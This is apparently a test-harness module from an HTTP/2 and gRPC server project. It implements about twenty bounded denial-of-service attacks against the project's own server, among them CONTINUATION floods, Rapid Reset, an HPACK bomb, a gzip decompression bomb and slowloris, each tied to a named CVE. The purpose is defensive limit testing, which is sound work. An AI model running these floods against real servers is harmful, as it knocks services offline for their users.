// The attacks of ../shared/specs/http2-limits.md (and a few more), each bounded in count and time. Each returns
// what the attacker saw; the harness adds what the server process said, its memory and CPU, and how a well-behaved
// client fared meanwhile. Used by test/attacks/attacks.test.ts (our server) and scripts/attack-report.ts (ours and
// grpc-js side by side, for docs/security.md).
import { gzipSync } from 'node:zlib';
import { encodeFrame } from '../../src/frames/index.js';
import { Attacker, ErrorCode, FrameType, PI_MESSAGE, PI_REQUEST, repeated } from './attacker.js';

export interface AttackResult {
  /** The attacking connection(s) closed (all of them, for the many-connection attacks). */
  closed: boolean;
  /** ms from the attack's start until the (last) connection closed. */
  closedAfterMs?: number;
  goaway?: { code: number; debug: string };
  resets: Map<number, number>;
  statuses: Map<string, number>;
  grpcStatuses: Map<string, number>;
  /** Frames (or requests, or connections) the attacker sent. */
  sent: number;
  /** HTTP/1.1: the first response that was not a 200, its status, reason and content (ours names the limit). */
  refusal?: string;
}

export interface Attack {
  name: string;
  /** What the attacker does, for the report. */
  what: string;
  run(port: number, until: number): Promise<AttackResult>;
}

function result(a: Attacker, sent: number): AttackResult {
  return {
    closed: a.closed,
    closedAfterMs: a.closed ? a.closedAt - a.startedAt : undefined,
    goaway: a.goaway,
    resets: a.resets,
    statuses: a.statuses,
    grpcStatuses: a.grpcStatuses,
    sent,
  };
}

/** A flood on one connection: `setup` frames first, then `chunk` (many frames in one buffer) until it closes. */
function flood(name: string, what: string, options: { read?: boolean; settings?: Array<[number, number]>; answered?: (a: Attacker, chunks: number) => boolean }, setup: (a: Attacker) => Uint8Array, chunk: (a: Attacker, i: number) => Uint8Array, framesPerChunk: number, maxChunks = 100_000): Attack {
  return {
    name,
    what,
    async run(port, until) {
      const a = await Attacker.connect(port, options);
      await a.write(setup(a), until);
      const chunks = await a.flood((i) => chunk(a, i), maxChunks, until);
      // calls that each get an answer: wait for the answers themselves (a busy machine takes longer), not a second
      while (options.answered && !options.answered(a, chunks) && !a.closed && Date.now() < until) await new Promise((r) => setTimeout(r, 10));
      await a.closedBy(Math.min(until, Date.now() + 1000));
      a.socket.resume();
      await new Promise((r) => setTimeout(r, 50));
      a.destroy();
      return result(a, chunks * framesPerChunk);
    },
  };
}

const none = (): Uint8Array => Buffer.alloc(0);
const sum = (counts: Map<unknown, number>) => [...counts.values()].reduce((n, c) => n + c, 0);
const openCall = (a: Attacker) => a.headers(1, PI_REQUEST, false);

/** Many connections, each doing `each`; closed when all of them were closed by the server. */
function many(name: string, what: string, count: number, each: (a: Attacker) => Uint8Array): Attack {
  return {
    name,
    what,
    async run(port, until) {
      const attackers: Attacker[] = [];
      for (let i = 0; i < count && Date.now() < until; i++) {
        const a = await Attacker.connect(port);
        attackers.push(a);
        await a.write(each(a), until);
      }
      const started = Date.now();
      while (Date.now() < until && attackers.some((a) => !a.closed)) await new Promise((r) => setTimeout(r, 50));
      const closed = attackers.every((a) => a.closed);
      const last = Math.max(...attackers.map((a) => a.closedAt));
      for (const a of attackers) a.destroy();
      const merged = result(attackers[0]!, attackers.length);
      return { ...merged, closed, closedAfterMs: closed ? last - started : undefined };
    },
  };
}

let bomb: Buffer | undefined;
/** A gzip message of 64 MiB of zeros (about 64 KiB on the wire), framed with the compressed flag. */
function gzipBomb(): Buffer {
  if (!bomb) {
    const body = gzipSync(Buffer.alloc(64 << 20));
    bomb = Buffer.alloc(5 + body.length);
    bomb[0] = 1;
    bomb.writeUInt32BE(body.length, 1);
    body.copy(bomb, 5);
  }
  return bomb;
}

/** The pi request's fields with no dynamic-table insertion (static indexes and literals without indexing). */
function plainRequestBlock(): Buffer {
  const literal = (nameIndex: number, value: string) => Buffer.concat([Buffer.from([nameIndex < 15 ? nameIndex : 0x0f, ...(nameIndex < 15 ? [] : [nameIndex - 15]), value.length]), Buffer.from(value)]);
  return Buffer.concat([
    Buffer.from([0x83, 0x86]), // :method POST, :scheme http (RFC 7541 Appendix A)
    literal(4, '/pi.PiCalculator/Calc'),
    literal(1, '127.0.0.1'),
    literal(31, 'application/grpc'),
    Buffer.from([0x00, 2]), Buffer.from('te'), Buffer.from([8]), Buffer.from('trailers'),
  ]);
}

/** The bomb's entry: x-bomb with a 4000-octet value, inserted in the dynamic table (it becomes index 62). */
const BOMB_ENTRY = Buffer.concat([Buffer.from([0x40, 6]), Buffer.from('x-bomb'), Buffer.from([0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 0x62)]);

/** A DATA frame of up to 16384 octets per piece of `data`. */
function dataFrames(streamId: number, data: Buffer, endStream: boolean): Buffer {
  const frames: Uint8Array[] = [];
  for (let at = 0; at < data.length; at += 16384) {
    const end = Math.min(data.length, at + 16384);
    frames.push(encodeFrame({ type: FrameType.DATA, streamId, endStream: endStream && end === data.length, data: data.subarray(at, end) }));
  }
  return Buffer.concat(frames);
}

/** The prefix of a gRPC message of 4 MiB − 1 octets (under the default receive limit), whose body then trickles in. */
const LARGE_PREFIX = Buffer.from([0, 0x00, 0x3f, 0xff, 0xff]);

/** A request under the 16 KiB header-list limit, mostly three references to the x-bomb entry (12 KB decoded from 3 octets). */
const bombRequest = () => Buffer.concat([plainRequestBlock(), Buffer.alloc(3, 0xbe)]);

export const ATTACKS: Attack[] = [
  flood('continuation-flood', 'HEADERS without END_HEADERS, then empty CONTINUATION frames without end (CVE-2024-27316)', {},
    (a) => a.headers(1, PI_REQUEST, false, false),
    () => repeated({ type: FrameType.CONTINUATION, streamId: 1, endHeaders: false, headerBlock: new Uint8Array(0) }, 1000), 1000),
  flood('continuation-large', 'HEADERS, then 16 KiB CONTINUATION frames without end', {},
    (a) => a.headers(1, PI_REQUEST, false, false),
    () => repeated({ type: FrameType.CONTINUATION, streamId: 1, endHeaders: false, headerBlock: Buffer.alloc(16000, 0x40) }, 4), 4),
  flood('settings-flood-no-read', 'SETTINGS frames, never reading (CVE-2019-9515)', { read: false }, none,
    () => repeated({ type: FrameType.SETTINGS, streamId: 0, ack: false, settings: [[4, 65535]] }, 1000), 1000),
  flood('ping-flood-no-read', 'a call open, then PINGs, never reading (CVE-2019-9512)', { read: false }, openCall,
    () => repeated({ type: FrameType.PING, streamId: 0, ack: false, data: Buffer.alloc(8) }, 1000), 1000),
  flood('requests-no-read', 'pi calls back to back, never reading a response (CVE-2019-9517)', { read: false }, none,
    (a, i) => Buffer.concat([a.headers(1 + 2 * i, PI_REQUEST, false), encodeFrame({ type: FrameType.DATA, streamId: 1 + 2 * i, endStream: true, data: PI_MESSAGE })]), 1),
  flood('rapid-reset', 'HEADERS then RST_STREAM, in a loop (Rapid Reset, CVE-2023-44487)', {}, none,
    (a, i) => Buffer.concat([a.headers(1 + 2 * i, PI_REQUEST, false), encodeFrame({ type: FrameType.RST_STREAM, streamId: 1 + 2 * i, errorCode: ErrorCode.CANCEL })]), 1),
  flood('empty-data', 'a call open, then empty DATA frames without END_STREAM (CVE-2019-9518)', {}, openCall,
    () => repeated({ type: FrameType.DATA, streamId: 1, endStream: false, data: new Uint8Array(0) }, 1000), 1000),
  flood('priority-flood', 'PRIORITY frames (CVE-2019-9513)', {}, none,
    (_a, i) => repeated({ type: FrameType.PRIORITY, streamId: 1 + 2 * (i % 1000), priority: { streamDependency: 0, exclusive: false, weight: 16 } }, 1000), 1000),
  flood('made-you-reset', 'requests whose WINDOW_UPDATE overflows the stream window: a stream error each (MadeYouReset, CVE-2025-8671)', {}, none,
    (a, i) => Buffer.concat([
      a.headers(1 + 2 * i, PI_REQUEST, false),
      encodeFrame({ type: FrameType.WINDOW_UPDATE, streamId: 1 + 2 * i, increment: 2 ** 31 - 1 }),
      encodeFrame({ type: FrameType.WINDOW_UPDATE, streamId: 1 + 2 * i, increment: 2 ** 31 - 1 }),
    ]), 1),
  flood('malformed-headers', 'requests with CR, NUL or upper case in header names and values', {}, none,
    (a, i) => a.headers(1 + 2 * i, [...PI_REQUEST, [['x-a\rb', 'X-Upper', 'x-nul'][i % 3]!, i % 3 === 2 ? 'a\0b' : '1']], true), 1),
  flood('hpack-bomb', 'a 4 KiB dynamic-table entry referenced 16,000 times per request, 64 MB decoded (CVE-2016-6581)', {},
    () => encodeFrame({ type: FrameType.HEADERS, streamId: 1, endStream: true, endHeaders: true, headerBlock: Buffer.concat([plainRequestBlock(), BOMB_ENTRY]) }),
    // every request: the pi request, then index 62 (the x-bomb entry) 16,000 times
    (_a, i) => encodeFrame({ type: FrameType.HEADERS, streamId: 3 + 2 * i, endStream: true, endHeaders: true, headerBlock: Buffer.concat([plainRequestBlock(), Buffer.alloc(16000, 0xbe)]) }),
    1, 2000),
  flood('window-update-overflow', 'WINDOW_UPDATE pushing the connection window above 2^31-1', {}, none,
    () => repeated({ type: FrameType.WINDOW_UPDATE, streamId: 0, increment: 2 ** 31 - 1 }, 2), 2, 10),
  flood('zero-window-many-streams', 'SETTINGS_INITIAL_WINDOW_SIZE 0, then 3000 pi calls whose responses can never be sent', { settings: [[4, 0]] }, none,
    (a, i) => Buffer.concat([a.headers(1 + 2 * i, PI_REQUEST, false), encodeFrame({ type: FrameType.DATA, streamId: 1 + 2 * i, endStream: true, data: PI_MESSAGE })]), 1, 3000),
  {
    name: 'stream-id-exhaustion',
    what: 'a call on the largest stream id (2^31-1), then one on a lower id',
    async run(port, until) {
      const a = await Attacker.connect(port);
      const last = 2 ** 31 - 1;
      await a.write(Buffer.concat([a.headers(last, PI_REQUEST, false), encodeFrame({ type: FrameType.DATA, streamId: last, endStream: true, data: PI_MESSAGE })]), until);
      while (!a.statuses.has('200') && !a.closed && Date.now() < until) await new Promise((r) => setTimeout(r, 10));
      await a.write(a.headers(3, PI_REQUEST, true), until);
      await a.closedBy(Math.min(until, Date.now() + 2000));
      a.destroy();
      return result(a, 2);
    },
  },
  flood('decompression-bomb', 'gzip messages of 64 MiB of zeros (64 KiB on the wire)', { answered: (a, calls) => sum(a.grpcStatuses) + sum(a.resets) >= calls }, none,
    (a, i) => Buffer.concat([a.headers(1 + 2 * i, [...PI_REQUEST, ['grpc-encoding', 'gzip']], false), dataFrames(1 + 2 * i, gzipBomb(), true)]), 1, 20),
  flood('data-1-octet', 'a call whose 4 MiB message comes as 1-octet DATA frames, as fast as they go (gRPC-Go CVE-2026-84304 class)', {},
    (a) => Buffer.concat([a.headers(1, PI_REQUEST, false), encodeFrame({ type: FrameType.DATA, streamId: 1, endStream: false, data: LARGE_PREFIX })]),
    () => repeated({ type: FrameType.DATA, streamId: 1, endStream: false, data: Buffer.from([0x61]) }, 1000), 1000),
  flood('data-padded-empty', 'a call open, then PADDED DATA frames carrying only padding', {}, openCall,
    () => repeated({ type: FrameType.DATA, streamId: 1, endStream: false, data: new Uint8Array(0), padding: 200 }, 1000), 1000),
  flood('header-bomb-zero-window', 'SETTINGS_INITIAL_WINDOW_SIZE 0, then pi calls of 12 KB header lists (3 octets of HPACK each) whose answers can never be sent ("HTTP/2 Bomb", 2026)', { settings: [[4, 0]] },
    () => encodeFrame({ type: FrameType.HEADERS, streamId: 1, endStream: false, endHeaders: true, headerBlock: Buffer.concat([plainRequestBlock(), BOMB_ENTRY]) }),
    (_a, i) => Buffer.concat([
      encodeFrame({ type: FrameType.HEADERS, streamId: 3 + 2 * i, endStream: false, endHeaders: true, headerBlock: bombRequest() }),
      encodeFrame({ type: FrameType.DATA, streamId: 3 + 2 * i, endStream: true, data: PI_MESSAGE }),
    ]), 1, 3000),
  {
    name: 'requests-without-message',
    what: '20,000 unary calls whose HEADERS carry END_STREAM (no message at all), 200 at a time',
    async run(port, until) {
      const a = await Attacker.connect(port);
      let sent = 0;
      const settled = () => (a.grpcStatuses.get('12') ?? 0) + (a.resets.get(7) ?? 0) >= sent;
      // 200 at a time, the next batch once the last was answered: within SETTINGS_MAX_CONCURRENT_STREAMS if calls end
      for (let batch = 0; batch < 100 && Date.now() < until && !a.closed; batch++) {
        const frames = Array.from({ length: 200 }, (_, i) => a.headers(1 + 2 * (sent + i), PI_REQUEST, true));
        if (!(await a.write(Buffer.concat(frames), until))) break;
        sent += 200;
        while (Date.now() < until && !a.closed && !settled()) await new Promise((r) => setTimeout(r, 1));
      }
      a.destroy();
      return result(a, sent);
    },
  },
  many('slowloris-idle', '1000 connections that complete the handshake and stay idle', 1000, () => Buffer.alloc(0)),
  many('slowloris-call', '1000 connections that each open a call whose message never comes', 1000, openCall),
];
